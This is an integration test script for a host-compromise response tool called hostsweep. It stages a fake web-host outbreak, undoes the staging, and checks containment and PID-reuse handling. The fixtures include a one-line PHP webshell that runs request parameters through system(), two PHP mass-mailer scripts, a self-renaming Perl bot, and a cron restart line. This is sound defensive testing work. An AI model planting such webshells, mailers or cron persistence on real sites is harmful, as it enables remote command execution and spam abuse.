#!/usr/bin/env bash
# The test that matters: a real outbreak replayed on this machine, contained
# by `hostsweep respond --apply`, then undone.
#
# - account hs_t_outb: a docroot with two mailers uploaded by FTP
#   (css/css.php, mail/stats34.php), a webshell in images/ written by the
#   web server, and clean site files;
# - a Perl bot started as www-data from /tmp/.hs_t_x/, renamed "bash", holding
#   a live SMTP connection to a listener on 127.0.0.1;
# - www-data's crontab (installed with crontab -u) restarts the bot every ten
#   minutes, beside lines that must stay as they are;
# - a real postfix queue (private instance, every delivery deferred): 300
#   messages submitted with sendmail as www-data by hs_t_outb's mailer script,
#   20 by another account, hs_t_othr.
# Then: PID reuse between the plan and the kill leaves the new process alone.
. "$(dirname "$0")/../lib.sh"
W=$(mktemp_dir)
chmod 0755 "$W"
PF_WORK=$W
. "$SRC/tests/fixtures/mailq/postfix-instance.sh"
pf_lock || {
	not_ok "lock for the postfix tests"
	exit 0
}
if ! pf_install; then
	not_ok "postfix package installed" "$(tail -n 5 "$W/apt.log" 2>/dev/null)"
	exit 0
fi

VICT=hs_t_outb OTHER=hs_t_othr
for u in $VICT $OTHER; do
	if id "$u" >/dev/null 2>&1; then userdel -r "$u" >/dev/null 2>&1; fi
	useradd -m -s /bin/sh "$u"
	at_exit "userdel -r $u >/dev/null 2>&1"
done
VUID=$(id -u $VICT)
DOC=/home/$VICT/public_html
mkdir -p "$DOC/css" "$DOC/mail" "$DOC/images"
cat >"$DOC/index.php" <<'EOF'
<?php
require __DIR__ . '/wp-config.php';
echo "<h1>" . htmlspecialchars($site) . "</h1>";
EOF
printf '<?php\n$site = "Outback Tours";\n' >"$DOC/wp-config.php"
printf 'body { margin: 0; }\n' >"$DOC/css/style.css"
# mass-mailer pages (inert: they need POST data and a web server)
cat >"$DOC/css/css.php" <<'EOF'
<?php
$emails = explode("\n", $_POST['emailList']);
$from = $_POST['senderEmail'];
foreach ($emails as $to) {
    if (mail(trim($to), $_POST['subject'], base64_decode($_POST['body']), "From: $from")) {
        echo "sent $to<br>";
    }
}
?><form method="post"><textarea name="emailList"></textarea><input name="senderEmail"></form>
EOF
cat >"$DOC/mail/stats34.php" <<'EOF'
<?php
$list = file($_FILES['list']['tmp_name']);
foreach ($list as $rcpt) { mail(trim($rcpt), $_POST['subj'], $_POST['html'], "From: " . $_POST['from']); }
EOF
printf '<?php if(isset($_REQUEST["c"])){ system($_REQUEST["c"]); } ?>\n' >"$DOC/images/thumb.php"
chown -R $VICT: "/home/$VICT"
chown www-data: "$DOC/images" "$DOC/images/thumb.php"
touch -d '2025-01-02 03:04:05' "$DOC/css/css.php" "$DOC/mail/stats34.php" "$DOC/images/thumb.php"
declare -A SUM STAT
for f in css/css.php mail/stats34.php images/thumb.php index.php wp-config.php css/style.css; do
	SUM[$f]=$(sha256sum <"$DOC/$f" | cut -d' ' -f1)
	STAT[$f]=$(stat -c '%u:%g %a %.9Y' "$DOC/$f")
done

# An SMTP listener on loopback (port 25 if free).
PORT=25
ss -ltn | grep -q ':25 ' && PORT=587
python3 - "$PORT" >"$W/listener.log" 2>&1 <<'EOF' &
import socket, sys, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(100)
print("listening", flush=True)
def serve(c):
    c.sendall(b"220 hs-test ESMTP\r\n")
    while c.recv(4096): c.sendall(b"250 ok\r\n")
while True:
    c, _ = s.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
EOF
LISTENER=$!
at_exit "kill $LISTENER 2>/dev/null"
for i in $(seq 1 50); do grep -q listening "$W/listener.log" && break; sleep 0.1; done

# The bot: dropped in a hidden directory under /tmp by the webshell.
BOTDIR=/tmp/.hs_t_x
rm -rf "$BOTDIR"
mkdir -p "$BOTDIR"
at_exit "rm -rf '$BOTDIR'"
cat >"$BOTDIR/run.pl" <<EOF
#!/usr/bin/perl
# test bot: renames itself, opens SMTP to loopback, holds the connection
use IO::Socket::INET;
\$0 = "bash";
my \$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $PORT, Proto => "tcp") or exit 1;
print \$s "EHLO bot\r\nMAIL FROM:<promo\@outback.test>\r\nRCPT TO:<victim\@example.com>\r\nDATA\r\n";
sleep 600;
EOF
chown -R www-data: "$BOTDIR"
chmod 755 "$BOTDIR/run.pl"
BOTSUM=$(sha256sum <"$BOTDIR/run.pl" | cut -d' ' -f1)

# www-data's crontab: the restarter plus lines that must survive byte for byte.
SAVED_CRONTAB=$W/www-data.crontab.orig
if crontab -u www-data -l >"$SAVED_CRONTAB" 2>/dev/null; then
	at_exit "crontab -u www-data '$SAVED_CRONTAB'"
else
	at_exit "crontab -u www-data -r 2>/dev/null"
fi
BOTLINE="*/10 * * * * perl $BOTDIR/run.pl >/dev/null 2>&1 &"
printf '# site maintenance\nMAILTO=""\n%s\n30 2 * * *\t/usr/bin/true   # nightly no-op\n' "$BOTLINE" >"$W/cron.in"
crontab -u www-data "$W/cron.in"
crontab -u www-data -l >"$W/cron.before"

# Start the bot the way cron would.
cron_run() { # run every active line's command of www-data's crontab, as cron would
	crontab -u www-data -l | grep -vE '^\s*(#|$|[A-Za-z_]+\s*=)' | while IFS= read -r line; do
		cmd=$(printf '%s\n' "$line" | awk '{ $1=$2=$3=$4=$5=""; sub(/^ +/, ""); print }')
		setpriv --reuid=33 --regid=33 --clear-groups sh -c "$cmd" </dev/null >/dev/null 2>&1
	done
}
cron_run
sleep 1
BOTPID=$(pgrep -u www-data -x bash -r R,S,D,T | head -1)
check "the bot runs as www-data under the name bash, with an SMTP connection" sh -c \
	"[ -n '$BOTPID' ] && ss -tnp 2>/dev/null | grep ':$PORT ' | grep -q 'pid=$BOTPID,'"

# The queue.
PF=$W/pf
pf_instance "$PF"
pf_authorize "$PF/etc"
pf_start "$PF"
submit() { # USER SENDER [PHP-HEADER]
	{
		printf 'To: victim%s@example.com\nSubject: offer\n' "$RANDOM"
		[ -n "${3:-}" ] && printf 'X-PHP-Originating-Script: %s\n' "$3"
		printf '\nbuy now\n'
	} | runuser -u "$1" -- /usr/sbin/sendmail -C "$PF/etc" -f "$2" -i -t
}
for i in $(seq 1 300); do submit www-data promo@outback.test "$VUID:css.php"; done
for i in $(seq 1 20); do submit $OTHER news@other.test; done
settled=0
for i in $(seq 1 300); do
	[ "$(find "$PF/spool/deferred" -type f | wc -l)" = 320 ] && settled=1 && break
	sleep 0.5
done
check "320 messages deferred in the real postfix queue" test "$settled" = 1

# /var/tmp is left out: on a developer's machine it holds benchmark trees
# (the bot is in /tmp); everything else is the default.
cat >"$W/hs.conf" <<EOF
[general]
state_dir = $W/state
[scan]
tmp_dirs = /tmp /dev/shm
[mailq]
mta = postfix
queue_dir = $PF/spool
mta_config = $PF/etc
EOF

# --- respond --apply: accounts from the queue ---
hs --config "$W/hs.conf" --format json respond --apply
check "respond --apply: exit 1 (findings, every action ok)" test "$RC" = 1
check "respond output: valid JSON lines" json_valid "$OUT"
cp "$OUT" "$W/respond.json"
check "the incident is for $VICT (picked from the mail queue)" \
	test "$(jq_py "$OUT" '[o["account"] for o in L if o.get("type")=="incident"]')" = "['$VICT']"
check "the plan runs in containment order: kill, disable-cron, quarantine, hold-mail" \
	test "$(jq_py "$OUT" '",".join(dict.fromkeys(o["action"] for o in L if o.get("type")=="action"))')" = \
	"kill,disable-cron,quarantine,hold-mail,lock-dir"
check "no action failed" test "$(jq_py "$OUT" '[o["detail"] for o in L if o.get("type")=="action" and o["result"]!="ok"]')" = "[]"

sleep 0.5
# gone: no such process, or a zombie waiting for init to reap it
alive() { [ -e "/proc/$1" ] && ! grep -q '^[0-9]* (.*) Z' "/proc/$1/stat" 2>/dev/null; }
check "the bot is gone" sh -c "! { [ -e /proc/$BOTPID ] && ! grep -q '^[0-9]* (.*) Z' /proc/$BOTPID/stat; }"
for f in css/css.php mail/stats34.php images/thumb.php; do
	id=$(jq_py "$OUT" "[o['id'] for o in L if o.get('type')=='action' and o['action']=='quarantine' and o['target']=='$DOC/$f'][0]")
	check "quarantined byte-exact: $f" sh -c \
		"[ ! -e '$DOC/$f' ] && [ \"\$(sha256sum < '$W/state/quarantine/$id/content' | cut -d' ' -f1)\" = '${SUM[$f]}' ]"
done
check "the bot script in /tmp is quarantined" test ! -e "$BOTDIR/run.pl"
for f in index.php wp-config.php css/style.css; do
	check "clean file untouched: $f" test "$(sha256sum <"$DOC/$f" | cut -d' ' -f1) $(stat -c '%u:%g %a %.9Y' "$DOC/$f")" = "${SUM[$f]} ${STAT[$f]}"
done

crontab -u www-data -l >"$W/cron.after"
check "the restarting cron line is commented out with the action marker" \
	grep -qE "^#hostsweep-disabled:A[0-9]+:[0-9-]+: \\*/10 \\* \\* \\* \\* perl $BOTDIR/run.pl" "$W/cron.after"
check "every other crontab line is intact, byte for byte" \
	cmp -s <(grep -v "run.pl" "$W/cron.before") <(grep -v "run.pl" "$W/cron.after")
cron_run
sleep 1
check "when cron's commands run again, the bot does not come back" \
	test -z "$(pgrep -u www-data -x bash -r R,S,D,T 2>/dev/null)"

postqueue -c "$PF/etc" -j >"$W/q.json"
qcount() { python3 -c 'import json,sys
n=sum(1 for l in open(sys.argv[1]) if json.loads(l)["queue_name"]==sys.argv[2] and json.loads(l)["sender"]==sys.argv[3])
print(n)' "$W/q.json" "$1" "$2"; }
check "the account's 300 queued messages are on hold" test "$(qcount hold promo@outback.test)" = 300
check "the other account's 20 messages are untouched (deferred)" test "$(qcount deferred news@other.test)/$(qcount hold news@other.test)" = "20/0"

# --- undo everything, newest first ---
ids=$("$HOSTSWEEP" --config "$W/hs.conf" --format json actions | python3 -c 'import json,sys
print(" ".join(str(o["id"]) for o in reversed([json.loads(l) for l in sys.stdin]) if o["state"]=="done" and o["action"]!="kill"))')
hs --config "$W/hs.conf" undo $ids
check "undo of every undoable action: exit 0" test "$RC" = 0
for f in css/css.php mail/stats34.php images/thumb.php; do
	check "restored byte-exact with owner, mode and mtime: $f" \
		test "$(sha256sum <"$DOC/$f" | cut -d' ' -f1) $(stat -c '%u:%g %a %.9Y' "$DOC/$f")" = "${SUM[$f]} ${STAT[$f]}"
done
check "bot script restored byte-exact" test "$(sha256sum <"$BOTDIR/run.pl" | cut -d' ' -f1)" = "$BOTSUM"
crontab -u www-data -l >"$W/cron.undone"
check "crontab restored exactly" cmp -s "$W/cron.before" "$W/cron.undone"
postqueue -c "$PF/etc" -j >"$W/q.json"
check "held messages released to the deferred queue" test "$(qcount deferred promo@outback.test)/$(qcount hold promo@outback.test)" = "300/0"

# --- a PID reused between the plan and the kill ---
cron_run
sleep 1
BOTPID=$(pgrep -u www-data -x bash -r R,S,D,T | head -1)
rm -f "$W/pause.paused"
touch "$W/pause"
HOSTSWEEP_TEST_PAUSE=$W/pause "$HOSTSWEEP" --config "$W/hs.conf" --format json respond --account $VICT --apply >"$W/reuse.json" 2>"$W/reuse.err" &
RESP=$!
for i in $(seq 1 3000); do [ -e "$W/pause.paused" ] && break; sleep 0.1; done
kill -9 "$BOTPID" 2>/dev/null
# the PID is free once the zombie is reaped (by init: the bot was detached)
for i in $(seq 1 100); do [ -e "/proc/$BOTPID" ] || break; sleep 0.1; done
echo $((BOTPID - 1)) >/proc/sys/kernel/ns_last_pid 2>/dev/null
setpriv --reuid=33 --regid=33 --clear-groups sleep 300 &
INNOCENT=$!
at_exit "kill $INNOCENT 2>/dev/null"
rm -f "$W/pause"
wait "$RESP"
if [ "$INNOCENT" = "$BOTPID" ]; then
	check "the innocent process with the reused PID survives the kill" alive "$INNOCENT"
	OUT=$W/reuse.json
	check "the kill action says the PID is now another process" \
		sh -c "grep '\"action\":\"kill\"' '$OUT' | grep -q 'another process'"
else
	skip "PID reuse before the kill" "could not get PID $BOTPID again (got $INNOCENT; ns_last_pid not writable or the PID not reaped)"
fi
exit 0
